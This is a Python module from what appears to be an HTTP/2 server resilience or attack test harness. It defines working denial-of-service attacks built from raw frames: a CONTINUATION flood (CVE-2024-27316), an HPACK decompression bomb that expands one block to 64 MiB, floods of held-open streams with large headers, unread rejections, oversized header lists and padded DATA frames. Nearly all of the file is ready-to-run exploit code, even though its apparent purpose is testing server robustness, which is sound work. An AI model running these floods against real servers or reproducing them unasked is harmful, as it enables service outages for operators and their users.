"""Header blocks: without end, or that come to more than they look."""

import hpack

from attack import Attack
from attacker import LISTEN, Reads
from effort import Effort
from http2_bytes import (CLASSIFY, DATA, DEFAULT_FRAME_SIZE, END_HEADERS,
                         END_STREAM, HEADERS, NEWEST_ENTRY, PADDED, PREFACE,
                         block, check_with, continuation, data, frame, headers,
                         literal, settings, table_size)
from questions import ASK_SCHEMA, REFLECTION, begun, streams

AT_ONCE = 8
SMALL_BUFFER = 4096
HELLO = PREFACE + settings()

# --- CONTINUATION (CVE-2024-27316 and its kin) --------------------------------


def continuing(fragment, effort):
    frames = max(1, 65536 // (9 + len(fragment)))
    blob = continuation(1, fragment, flags=0) * frames
    opening = HELLO + headers(1, CLASSIFY, flags=0)

    def script(me):
        yield opening
        while not effort.enough:
            yield blob
            effort.add(frames)

    return script


def continuation_flood(crowd, scale):
    sent = []
    for name, fragment in {"empty": b"", "one field": literal(b"x", b"y"),
                           "full": bytes(DEFAULT_FRAME_SIZE)}.items():
        effort = Effort(scale.frames // 3, scale.seconds / 3)
        crowd.run(effort.repeat(continuing(fragment, effort)), AT_ONCE)
        sent.append(f"{effort.done:,} {name}")
    return " + ".join(sent) + " CONTINUATION frames without END_HEADERS"


# --- HPACK --------------------------------------------------------------------

# An entry as large as the table, to be named by one byte.
LARGE_ENTRY = literal(b"x-large", bytes([97]) * 4000, how=b"\x40")
# So many that the server takes the block; it is 256 times as long as it looks.
SOME_REFERENCES = NEWEST_ENTRY * 250
ALL_REFERENCES = NEWEST_ENTRY * (DEFAULT_FRAME_SIZE - 200)
PLAIN = block(CLASSIFY)
# What Huffman's code packs best.
HUFFMAN = hpack.Encoder().encode([("x-zeros", "0" * 8000, True)])
RESIZES = table_size(0) + table_size(4096)


def hpack_blocks(count, first):
    """Of each kind that a connection survives, one after the other."""
    kinds = [PLAIN + SOME_REFERENCES, PLAIN + HUFFMAN * 2,
             PLAIN + literal(b"x-small", b"") * 1000,
             PLAIN + literal(b"x-entry", b"y", how=b"\x40") * 300
             + LARGE_ENTRY]
    # Trailing the resizes is not allowed: they begin a block.
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream,
              RESIZES + LARGE_ENTRY + kinds[i % len(kinds)])
        for i, stream in enumerate(streams(count, first)))


def unpacking(effort):
    def script(me):
        yield HELLO
        first = 1
        while not effort.enough:
            yield hpack_blocks(20, first)
            effort.add(20)
            first += 40

    return script


def bursting(effort):
    """One block that unpacks to 64 MB, on connection after connection."""
    blob = HELLO + headers(1, LARGE_ENTRY + PLAIN) + frame(
        HEADERS, END_HEADERS, 3, ALL_REFERENCES)

    def script(me):
        yield blob
        effort.add()
        yield LISTEN

    return script


def hpack_bomb(crowd, scale):
    blocks = Effort(scale.blocks, scale.seconds / 2)
    crowd.run(blocks.repeat(unpacking(blocks)), AT_ONCE)
    bursts = Effort(scale.blocks // 10, scale.seconds / 2)
    crowd.run(bursts.repeat(bursting(bursts)), AT_ONCE)
    return (f"{blocks.done:,} blocks of up to 1 MiB unpacked, {bursts.done:,} "
            "of 64 MiB")


# --- Lists and padding --------------------------------------------------------


def and_stays(blob, scale):
    """Says all of it, and nothing more while the attack lasts."""
    def script(me):
        yield blob
        yield 2 * scale.seconds
    return script


def calls_with_large_headers(crowd, scale):
    """Calls that stay open, each with headers of its own, as many as it may."""
    blob = HELLO + b"".join(
        headers(stream, PLAIN + literal(b"x-hoard", b"%07d" % stream * 1000))
        for stream in streams(256))

    connections = scale.crowd // 4
    crowd.run([and_stays(blob, scale)] * connections, connections)
    return f"{connections} x 256 open calls with 7 KB of headers each"


def streams_with_large_headers(crowd, scale):
    """Chats that have begun, with large headers, and say no more."""
    chat = block(REFLECTION)
    blob = HELLO + b"".join(
        headers(stream, chat + literal(b"x-hoard", b"%07d" % stream * 1000))
        + data(stream, ASK_SCHEMA, 0)
        for stream in streams(256))

    connections = scale.crowd // 16
    crowd.run([and_stays(blob, scale)] * connections, connections)
    return f"{connections} x 256 quiet streams with 7 KB of headers each"


def unread_rejections(crowd, scale):
    """Calls of methods with long names that are not there, and no reading."""
    long_path = check_with((":path", "/" + "%" * 255))
    blob = HELLO + b"".join(
        headers(stream, long_path, flags=END_HEADERS | END_STREAM)
        for stream in streams(5000))

    connections = scale.crowd // 5
    crowd.run([and_stays(blob, scale)] * connections, connections,
              Reads.ON_DEMAND, SMALL_BUFFER)
    return f"{connections} x 5,000 refusals of 850 bytes that nobody reads"


def huge_lists(crowd, scale):
    """Lists over the limit, in as many frames as the server bears."""
    field = literal(b"x-huge", b"h" * 500)
    effort = Effort(scale.blocks, scale.seconds)

    def script(me):
        yield HELLO
        stream = 1
        while not effort.enough:
            yield (headers(stream, PLAIN + field * 10, flags=END_STREAM)
                   + continuation(stream, field * 10))
            effort.add()
            stream += 2

    crowd.run(effort.repeat(script), AT_ONCE)
    return f"{effort.done:,} header lists of 10 KB"


def padding(crowd, scale):
    """A message of bytes that come one by one, each with 255 of padding."""
    effort = Effort(scale.frames, scale.seconds)
    padded = frame(DATA, PADDED, 1, b"\xff" + b"\0" + bytes(255))
    empty = frame(DATA, PADDED, 1, b"\xff" + bytes(255))

    def script(message_frame):
        def run(me):
            yield HELLO + begun(1) + frame(DATA, 0, 1, b"\0\0\x40\0\0")
            for _ in range(40):
                yield message_frame * 200
                effort.add(200)
                if effort.enough:
                    return
        return run

    crowd.run(effort.repeat(script(padded), script(empty)), AT_ONCE)
    return f"{effort.done:,} DATA frames of padding, and of a byte or none"


ATTACKS = [
    Attack("continuation_flood", continuation_flood,
           incidents=("header-block",)),
    Attack("hpack_bomb", hpack_bomb, incidents=("header-block",)),
    Attack("huge_header_lists", huge_lists),
    Attack("calls_with_large_headers", calls_with_large_headers,
           network_mib=64, request_mib=1),
    Attack("streams_with_large_headers", streams_with_large_headers,
           network_mib=64, request_mib=1),
    Attack("unread_rejections", unread_rejections,
           network_mib=64, request_mib=1),
    Attack("padding_flood", padding),
]
